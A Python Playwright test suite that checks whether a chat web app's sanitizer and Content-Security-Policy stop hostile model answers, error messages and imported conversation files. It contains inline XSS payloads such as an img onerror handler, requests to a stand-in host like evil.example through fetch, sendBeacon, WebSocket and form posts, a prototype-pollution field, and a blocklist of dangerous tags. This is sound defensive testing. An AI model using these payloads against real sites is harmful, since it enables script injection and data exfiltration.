"""Nothing that a model writes runs, loads or changes anything: see hostile.py for what is tried."""

import json

from hostile import E, HOSTILE
from mock import Script

FORBIDDEN = """() => {
  const inside = [...document.querySelectorAll('.markdown *, .bubble *, .reasoning > div *')];
  const typeset = (e) => e.closest('.katex');
  const faults = [];
  for (const e of inside) {
    const bad = 'script style link meta base iframe object embed form input img video audio template svg use';
    const drawn = e.localName === 'svg' && typeset(e);
    if (bad.split(' ').includes(e.localName) && !drawn) faults.push(e.outerHTML.slice(0, 200));
    for (const { name, value } of e.attributes) {
      const own = name === 'style' && typeset(e);
      if (/^on|^style$|^id$|^name$|^src|^form|^background$/.test(name) && !own) faults.push(name + '=' + value);
      if (/href/.test(name) && !/^(https?|mailto):/i.test(value)) faults.push(name + '=' + value);
    }
    const tells = e.target !== '_blank' || !e.rel?.includes('noopener');
    if (e.localName === 'a' && e.href && tells) faults.push(e.outerHTML);
    const over = ['fixed', 'sticky'].includes(getComputedStyle(e).position);
    if (over) faults.push('over the page: ' + e.outerHTML.slice(0, 200));
  }
  return faults;
}"""


def attack(chat, texts):
    """Has each text be a question, a title, a reasoning and an answer, and asserts that it stayed a text."""
    for number, text in enumerate(texts):
        script = Script(text=text, reasoning=text)
        chat.mock.script_for = lambda body, script=script: script
        chat.page.keyboard.press("Control+Shift+O")
        # As a file could bring it: what is typed has no control characters.
        chat.box.fill(text)
        before = len(chat.mock.requests)
        chat.box.press("Enter")
        chat.wait(lambda: len(chat.mock.requests) > before, f"answer {number} is asked for")
        chat.done()
        faults = chat.page.evaluate(FORBIDDEN)
        assert not faults, f"hostile answer {number}, {text[:80]!r}: {faults}"
        # What lies in wait for the pointer.
        chat.answers.last.hover(force=True)
        chat.clean()
        assert chat.page.url.startswith(chat.mock.url), f"hostile answer {number} moved the page to {chat.page.url}"
    assert chat.page.evaluate("document.baseURI").startswith(chat.mock.url)


def test_hostile_answers_do_nothing(chat):
    assert len(HOSTILE) >= 40
    chat.open()
    attack(chat, HOSTILE)
    assert chat.conversations.count() == len(HOSTILE)
    # Nothing even reached the last wall. `style` is KaTeX's, on elements that only screen readers read.
    stopped = [
        each for each in chat.page.evaluate("window.stopped ?? []") if not each.startswith("style-src-attr inline")
    ]
    assert stopped == [], stopped
    # And again when they come from the storage.
    chat.page.reload()
    chat.answers.last.wait_for()
    search = chat.page.get_by_role("searchbox")
    search.fill("owned")
    chat.page.get_by_text("Found in").wait_for()
    chat.shot("hostile")
    chat.clean()


def test_the_sanitizer_alone_stops_them(chat):
    """Without the escaping of markdown-it and without a Content-Security-Policy."""

    def without_escaping(route):
        body = route.fetch().text()
        assert body.count("html:!1,linkify:!0") == 1, "the page's markdown-it is set up in another way now"
        route.fulfill(body=body.replace("html:!1,linkify:!0", "html:!0,linkify:!0"), content_type="text/javascript")

    def without_policy(route):
        body = route.fetch().text()
        assert body.count("Content-Security-Policy") == 1
        route.fulfill(body=body.replace("Content-Security-Policy", "x-nothing"), content_type="text/html")

    chat.page.route("**/page/page.js", without_escaping)
    chat.page.route(f"{chat.mock.url}/", without_policy)
    chat.open()
    # The walls are down indeed.
    chat.page.evaluate("document.body.insertAdjacentHTML('beforeend', '<b id=down>down</b>')")
    chat.ask("<b>bold</b> <em>kept</em>")
    assert chat.answers.last.locator("em").inner_text() == "kept" and chat.answers.last.locator("b").count() == 0
    attack(chat, HOSTILE)


def test_the_policy_alone_stops_scripts_and_requests(chat):
    chat.open()
    tries = {
        "markup from text": "document.body.innerHTML = '<img src=x onerror=window.owned=1>'",
        "an outside script": f"document.createElement('script').src = '{E}/a.js'",
        "a handler": "document.body.setAttribute('onclick', 'window.owned = 1')",
        "another policy": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    }
    for name, code in tries.items():
        thrown = chat.page.evaluate(
            f"() => {{ try {{ {code}; return 'done'; }} catch (error) {{ return error.name; }} }}"
        )
        assert thrown == "TypeError", f"{name}: {thrown}"
    # Elements that a script of ours could make, but that must not load.
    chat.page.evaluate(f"""() => {{
      const make = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
      make('img', {{ src: '{E}/i.png' }});
      make('iframe', {{ src: '{E}/' }});
      make('link', {{ rel: 'stylesheet', href: '{E}/s.css' }});
      make('style', {{ textContent: 'body {{ background: url({E}/b.png) }}' }});
      make('video', {{ src: '{E}/v.mp4' }});
      make('base', {{ href: '{E}/' }});
      const form = Object.assign(document.createElement('form'), {{ action: '{E}/f', method: 'post' }});
      document.body.append(form);
      form.submit();
      fetch('{E}/q').catch(() => {{}});
      navigator.sendBeacon('{E}/b', 'x');
      try {{ new WebSocket('ws://evil.example/'); }} catch {{}}
    }}""")
    chat.page.wait_for_timeout(500)
    stopped = " ".join(chat.page.evaluate("window.stopped"))
    for directive in [
        "img-src",
        "frame-src",
        "style-src-elem",
        "media-src",
        "base-uri",
        "trusted-types",
        "require-trusted-types-for",
        "form-action",
        "connect-src",
    ]:
        assert directive in stopped, f"{directive} is not among {stopped}"
    assert chat.page.evaluate("window.owned") is None and chat.dialogs == []
    assert chat.page.evaluate("document.baseURI") == f"{chat.mock.url}/"
    # Requests that the policy stopped are reported by the browser as failed, and never left it.


def test_the_page_comes_with_its_headers(chat):
    response = chat.page.goto(chat.mock.url)
    policy = response.header_value("content-security-policy") or ""
    for part in [
        "default-src 'none'",
        "script-src 'self'",
        "frame-ancestors 'none'",
        "require-trusted-types-for 'script'",
        "base-uri 'none'",
        "form-action 'none'",
        "connect-src 'self'",
    ]:
        assert part in policy, f"{part} is missing in {policy!r}"
    for source in ["unsafe", "*", "http:", "https:", "data:", "blob:"]:
        assert source not in policy, policy
    assert response.header_value("x-content-type-options") == "nosniff"
    assert response.header_value("referrer-policy") == "no-referrer"
    # The page alone says the same, but for what counts only in a header.
    own = chat.page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content")
    sent, written = ({part.strip() for part in text.split(";")} for text in (policy, own))
    assert sent ^ written == {"frame-ancestors 'none'"}, sent ^ written


def test_what_servers_and_files_say_is_text_too(chat):
    evil = "<img src=x onerror=window.owned=1>"
    chat.mock.models = [evil, f"{evil}2"]
    chat.mock.answers["Fail"] = Script(error=(400, {"error": {"message": evil, "type": evil, "code": evil}}))
    chat.open().ask("Fail")
    assert evil in chat.page.locator(".problem").inner_text()
    message = {
        "id": "m",
        "parent": None,
        "role": "assistant",
        "content": evil,
        "reasoning": evil,
        "model": evil,
        "created": 1,
    }
    record = {
        "id": "c",
        "title": evil,
        "first": "m",
        "messages": [message],
        "settings": {"system": evil, "schema": evil},
    }
    file = {"format": "nibble conversations", "version": 1, "conversations": [record], "__proto__": {"owned": 1}}
    buffer = json.dumps(file).encode()
    chat.page.set_input_files("#import", {"name": "x.json", "mimeType": "application/json", "buffer": buffer})
    chat.page.get_by_role("button", name=evil, exact=True).click()
    assert chat.last_answer() == evil
    chat.button("Settings").click()
    assert chat.page.get_by_label("System prompt").input_value() == evil
    assert chat.page.evaluate(FORBIDDEN) == []
    chat.clean()


def test_links_say_where_they_go_and_take_nothing_along(chat):
    chat.open().ask(f"[docs]({E}/docs) and ![a picture]({E}/p.png)")
    for link, target in zip(chat.answers.last.get_by_role("link").all(), ["/docs", "/p.png"], strict=True):
        assert link.get_attribute("href") == f"{E}{target}" == link.get_attribute("title")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("referrerpolicy") == "no-referrer"
    chat.clean()
